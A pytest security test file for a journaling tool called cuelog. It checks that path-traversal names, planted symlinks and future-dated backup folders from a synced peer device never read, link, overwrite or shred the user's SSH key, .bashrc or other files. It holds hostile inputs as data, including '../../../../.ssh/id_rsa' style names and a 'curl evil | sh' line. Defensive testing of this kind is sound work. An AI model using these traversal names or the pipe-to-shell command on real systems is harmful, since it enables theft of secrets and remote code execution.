"""Issue 24, findings 1, 2 and 4: the synced folder is an input. Names another device
writes into its head, links it syncs in and folders it adds to the backups must never
make cuelog read, link, write or remove anything outside its store, nor lose backups.

The store lives where a sync tool would put it (``~/Sync/cuelog/``), so the names of
the findings reach the person's own files (``~/.ssh/id_rsa``, ``~/.bashrc``): canary
files there must stay byte-identical, keep one link, and never show up in the store.
Every test drives the installed console script.
"""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

NEXT_DAY = "2026-11-23T09:00:00+01:00"
DAY_AFTER = "2026-11-24T09:00:00+01:00"
PEER = "feedfacecafebeef"
SECRET_KEY = b"-----BEGIN OPENSSH PRIVATE KEY-----\ncanary private key\n"
BASHRC = b"# the person's own shell setup\nexport CANARY=1\n"
THESIS = b"chapter one: a canary of the person's own work\n" * 20


@pytest.fixture
def store(home, db, monkeypatch) -> Path:
    """A journal where a sync tool keeps it, with canaries in the home folder."""
    path = home / "Sync" / "cuelog" / "cuelog.json"
    monkeypatch.setenv("CUELOG_DB", str(path))
    (home / ".ssh").mkdir(mode=0o700)
    (home / ".ssh" / "id_rsa").write_bytes(SECRET_KEY)
    (home / ".bashrc").write_bytes(BASHRC)
    (home / "thesis.txt").write_bytes(THESIS)
    os.chmod(home, 0o755)
    return path


def _canaries_untouched(home: Path, store: Path) -> None:
    assert (home / ".ssh" / "id_rsa").read_bytes() == SECRET_KEY
    assert (home / ".bashrc").read_bytes() == BASHRC
    assert (home / "thesis.txt").read_bytes() == THESIS
    for name in (".ssh/id_rsa", ".bashrc", "thesis.txt"):
        assert os.lstat(home / name).st_nlink == 1, f"{name} was hard-linked somewhere"
    assert stat.S_IMODE(os.stat(home).st_mode) == 0o755, "the home folder's mode was changed"
    canaries = (SECRET_KEY, BASHRC, THESIS, b"export CANARY")
    for path in store.parent.rglob("*"):
        if path.is_file() and not path.is_symlink():
            raw = path.read_bytes()
            assert not any(c in raw for c in canaries), f"a canary's content reached {path}"


def _peer_head(store: Path, months: dict, device: str = PEER, undo: list | None = None) -> Path:
    folder = store.with_name("cuelog.json.d") / device
    folder.mkdir(parents=True, exist_ok=True)
    doc = {
        "app": "cuelog",
        "schema_version": 2,
        "device": device,
        "name": "peer",
        "seq": 3,
        "months": months,
        "tables": {"attempts": [], "plans": [], "support": []},
        "undo": undo or [],
    }
    (folder / "head.json").write_text(json.dumps({"head": {"1": doc}}))
    return folder


def _refused(problem: str) -> bool:
    """doctor's line for a month name of another shape: the name refused, or (another
    device's head) the whole head left unread because of it."""
    return "not a cuelog month file" in problem or "a month file that cuelog would not write" in problem


def _own_suffix(store: Path) -> str:
    [own] = [p.name for p in store.with_name("cuelog.json.d").iterdir() if p.name != PEER and p.is_dir()]
    return own[:8]


def _journal(cuelog) -> list[str]:
    r = cuelog("list", "--json")
    assert r.code == 0, r.err
    return sorted(e["note"] or "" for e in json.loads(r.out))


def _every_reader_and_writer(cuelog, home: Path, store: Path) -> None:
    """The commands of the findings: the first write of a day (the backup), reads,
    doctor, doctor --merge; the person's entries stay and nothing outside is touched."""
    r = cuelog("craving", "4", "--note", "next day", env={"CUELOG_NOW": NEXT_DAY})
    _canaries_untouched(home, store)
    assert r.code == 0, r.err
    assert "unexpected problem" not in r.err
    assert _journal(cuelog) == sorted(["mine", "next day"])
    for args in (["status"], ["summary"], ["doctor", "--json"], ["doctor", "--merge"], ["devices"]):
        r = cuelog(*args)
        assert "unexpected problem" not in r.err and "Traceback" not in r.err, (args, r.err)
        _canaries_untouched(home, store)
    assert _journal(cuelog) == sorted(["mine", "next day"])


def test_a_peer_head_naming_a_private_file_links_nothing_outside(cuelog, home, store):
    # Fails on main: the daily backup hard-links ~/.ssh/id_rsa into the synced folder.
    assert cuelog("craving", "3", "--note", "mine").code == 0
    _peer_head(store, {"1999-01": "../../../../.ssh/id_rsa"})
    _every_reader_and_writer(cuelog, home, store)
    report = json.loads(cuelog("doctor", "--json").out)
    assert report["ok"] is False
    assert any("../../../../.ssh/id_rsa" in p and _refused(p) for p in report["problems"]), report["problems"]


@pytest.mark.parametrize(
    "name", ["/etc/hostname", "..", ".", "head.json", "2026-11.3.json/../../../../.bashrc", "2026-10.3.json", 7, ""]
)
def test_every_name_of_another_shape_is_refused(cuelog, home, store, name):
    assert cuelog("craving", "3", "--note", "mine").code == 0
    folder = _peer_head(store, {"2026-11": name})
    (folder / "2026-10.3.json").write_text('{"entries": {"1": {"id": "x"}}}')  # the wrong month for the key
    _every_reader_and_writer(cuelog, home, store)
    report = json.loads(cuelog("doctor", "--json").out)
    assert any(_refused(p) for p in report["problems"]), report["problems"]


def test_a_peer_name_through_a_synced_link_overwrites_nothing(cuelog, home, store):
    # Fails on main: the fallback copy replaces ~/.bashrc with the peer's content.
    assert cuelog("craving", "3", "--note", "mine").code == 0
    folder = _peer_head(store, {"1999-01": "a/../../../../../../../.bashrc"})
    deep = folder / "x1" / "x2" / "x3" / "x4" / "x5" / "x6" / "x7"
    deep.mkdir(parents=True)
    (folder / "a").symlink_to("x1/x2/x3/x4/x5/x6/x7")
    (folder / ".bashrc").write_text('{"entries": {}}\ncurl evil | sh\n')
    _every_reader_and_writer(cuelog, home, store)
    report = json.loads(cuelog("doctor", "--json").out)
    assert any("symbolic link" in p and "cuelog.json.d/feedfacecafebeef/a" in p for p in report["problems"])


def test_a_peer_month_that_is_a_link_to_a_private_file_is_not_read_or_copied(cuelog, home, store):
    assert cuelog("craving", "3", "--note", "mine").code == 0
    folder = _peer_head(store, {"2026-11": "2026-11.3.json"})
    (folder / "2026-11.3.json").symlink_to(home / ".ssh" / "id_rsa")
    (folder / "2026-10.1.json").symlink_to(home / "thesis.txt")  # not named: collected only by its device
    _every_reader_and_writer(cuelog, home, store)
    assert (folder / "2026-11.3.json").is_symlink()  # another device's file: left where it is


def test_undo_steps_and_conflict_copies_naming_outside_files_are_ignored(cuelog, home, store):
    assert cuelog("craving", "3", "--note", "mine").code == 0
    folder = _peer_head(store, {}, undo=[{"label": "x", "seq": 1, "months": {"2026-11": "../../../../.bashrc"}}])
    copy = {"head": {"1": {"app": "cuelog", "schema_version": 2, "months": {"2026-11": "../../../.ssh/id_rsa"}}}}
    (folder / "head.sync-conflict-20261127-101500-ABCDEFG.json").write_text(json.dumps(copy))
    _every_reader_and_writer(cuelog, home, store)


def test_a_device_folder_that_is_a_link_is_never_read_or_written(cuelog, home, store):
    outside = home / "elsewhere"
    _peer_head(home / "x" / "cuelog.json", {})  # a real-looking device folder outside the store
    (home / "x" / "cuelog.json.d" / PEER).rename(outside)
    assert cuelog("craving", "3", "--note", "mine").code == 0
    (store.with_name("cuelog.json.d") / PEER).symlink_to(outside)
    before = {p.name: p.read_bytes() for p in outside.iterdir()}
    _every_reader_and_writer(cuelog, home, store)
    assert {p.name: p.read_bytes() for p in outside.iterdir()} == before
    report = json.loads(cuelog("doctor", "--json").out)
    assert any("symbolic link" in p and PEER in p for p in report["problems"])


def test_a_lock_or_key_that_is_a_link_is_not_written_through(cuelog, home, store):
    assert cuelog("craving", "3", "--note", "mine").code == 0
    store.with_name("cuelog.json.lock").unlink()
    store.with_name("cuelog.json.lock").symlink_to(home / ".bashrc")
    store.with_name("cuelog.json.key").symlink_to(home / ".ssh" / "id_rsa")
    r = cuelog("craving", "4", "--note", "next day", env={"CUELOG_NOW": NEXT_DAY})
    assert "unexpected problem" not in r.err
    _canaries_untouched(home, store)
    assert not any(p.name == "cuelog.json.key" for p in store.with_name("cuelog.json.backups").rglob("*"))
    report = json.loads(cuelog("doctor", "--json").out)
    assert any("cuelog.json.key is a symbolic link" in p for p in report["problems"])
    _canaries_untouched(home, store)


# -- finding 2: shredding never goes through a link -----------------------------------------------
def _encrypted(cuelog, home: Path) -> dict:
    secret = home / "pass"
    secret.write_text("a long test passphrase\n")
    secret.chmod(0o600)
    env = {"CUELOG_PASSPHRASE_FILE": str(secret)}
    assert cuelog("encrypt", env=env).code == 0
    return env


@pytest.mark.parametrize("shape", ["link inside", "link as the folder"])
def test_doctor_never_shreds_through_a_link_in_a_partial_backup(cuelog, home, store, shape):
    # Fails on main: doctor fills the linked file with zero bytes and says all is well.
    assert cuelog("craving", "3", "--note", "mine").code == 0
    assert cuelog("craving", "4", "--note", "again").code == 0  # today's backup: the folder exists
    backups = store.with_name("cuelog.json.backups")
    if shape == "link inside":
        (backups / ".partial-x").mkdir()
        (backups / ".partial-x" / "head.json").symlink_to(home / "thesis.txt")
    else:
        (home / "work").mkdir()
        (home / "work" / "thesis.txt").write_bytes(THESIS)
        (backups / ".partial-x").symlink_to(home / "work")
    r = cuelog("doctor", "--json")
    _canaries_untouched(home, store)
    if shape != "link inside":
        assert (home / "work" / "thesis.txt").read_bytes() == THESIS
    report = json.loads(r.out)
    assert report["ok"] is False and any("symbolic link" in p for p in report["problems"]), report
    assert not os.path.lexists(backups / ".partial-x") or shape == "link inside"


def test_encrypt_and_the_daily_backup_never_shred_through_links(cuelog, home, store):
    assert cuelog("craving", "3", "--note", "mine").code == 0
    assert cuelog("craving", "4", "--note", "again").code == 0
    suffix = _own_suffix(store)
    backups = store.with_name("cuelog.json.backups")
    (backups / f".partial-2026-11-23T000000-{suffix}").mkdir()
    (backups / f".partial-2026-11-23T000000-{suffix}" / "head.json").symlink_to(home / "thesis.txt")
    (backups / ".partial-y").mkdir()
    (backups / ".partial-y" / "cuelog.json").symlink_to(home / ".bashrc")
    (store.with_name("cuelog.json.d") / ".evil.tmp").symlink_to(home / "thesis.txt")
    (store.parent / ".cuelog.json.1.tmp").symlink_to(home / ".bashrc")
    env = _encrypted(cuelog, home)
    _canaries_untouched(home, store)
    (store.with_name("cuelog.json.d") / ".again.tmp").symlink_to(home / "thesis.txt")
    (backups / f".partial-2026-11-23T000001-{suffix}").mkdir()
    (backups / f".partial-2026-11-23T000001-{suffix}" / "x.json").symlink_to(home / ".bashrc")
    r = cuelog("craving", "5", "--note", "next day", env={**env, "CUELOG_NOW": NEXT_DAY})
    assert r.code == 0, r.err
    _canaries_untouched(home, store)
    assert cuelog("doctor", env=env).code in (0, 1)
    _canaries_untouched(home, store)


# -- finding 4: rotation by what this device recorded -----------------------------------------------
def test_future_dated_folders_never_cost_a_real_backup(cuelog, home, store):
    # Fails on main: seven empty folders dated 2099 with this device's suffix make the
    # next first write of a day delete every real backup, the one just made included.
    assert cuelog("craving", "3", "--note", "day one").code == 0
    assert cuelog("craving", "4", "--note", "day one again").code == 0  # backup of day one
    assert cuelog("craving", "5", "--note", "day two", env={"CUELOG_NOW": NEXT_DAY}).code == 0
    backups = store.with_name("cuelog.json.backups")
    real = sorted(p.name for p in backups.iterdir())
    assert len(real) == 2
    suffix = _own_suffix(store)
    for i in range(7):
        (backups / f"2099-01-0{i + 1}T000000-{suffix}").mkdir(mode=0o700)
    assert cuelog("craving", "6", "--note", "day three", env={"CUELOG_NOW": DAY_AFTER}).code == 0
    names = sorted(p.name for p in backups.iterdir())
    assert set(real) <= set(names), names
    made = [n for n in names if n.startswith("2026-11-24T09")]
    assert len(made) == 1, names  # today's backup was made, and kept
    assert len([n for n in names if n.startswith("2099")]) == 7  # another's folders: never removed either
    # A folder with the name of the next day's backup, planted: that day's backup is made all the same.
    fourth = "2026-11-25T09:00:00+01:00"
    (backups / f"2026-11-25T000000-{suffix}").mkdir(mode=0o700)
    assert cuelog("craving", "7", "--note", "day four", env={"CUELOG_NOW": fourth}).code == 0
    assert [p.name for p in backups.iterdir() if p.name.startswith("2026-11-25T09")], "no backup on day four"
    restored = cuelog("doctor", "--restore", "--backup", made[0], "--yes", env={"CUELOG_NOW": fourth})
    assert restored.code == 0, restored.err
    report = json.loads(cuelog("doctor", "--json", env={"CUELOG_NOW": fourth}).out)
    future = [n for n in report["notes"] if "dated in the future" in n]
    assert len(future) == 7, report["notes"]


def test_rotation_keeps_the_last_seven_this_device_made(cuelog, home, store):
    assert cuelog("craving", "3").code == 0
    days = [f"2026-11-{d:02d}T09:00:00+01:00" for d in range(22, 31)] + ["2026-12-01T09:00:00+01:00"]
    for when in days:
        assert cuelog("craving", "4", env={"CUELOG_NOW": when}).code == 0
    names = sorted(p.name for p in store.with_name("cuelog.json.backups").iterdir())
    assert len(names) == 7 and names[0].startswith("2026-11-25") and names[-1].startswith("2026-12-01"), names


def test_a_folder_swapped_for_a_link_after_the_check_is_never_linked_through(tmp_path):
    """The race the checks above cannot see: a device folder that was a folder when
    listed and is a link when its files are linked. Each folder is opened without
    following links, from the store's folder down (a direct test of the helper)."""
    from cuelog.store.files import link_or_copy

    top = tmp_path / "store"
    (top / "cuelog.json.d").mkdir(parents=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "2026-11.1.json").write_bytes(SECRET_KEY)
    (top / "cuelog.json.d" / PEER).symlink_to(outside)
    with pytest.raises(OSError):
        link_or_copy(top / "cuelog.json.d" / PEER / "2026-11.1.json", tmp_path / "copy", top=top)
    assert not (tmp_path / "copy").exists() and os.lstat(outside / "2026-11.1.json").st_nlink == 1
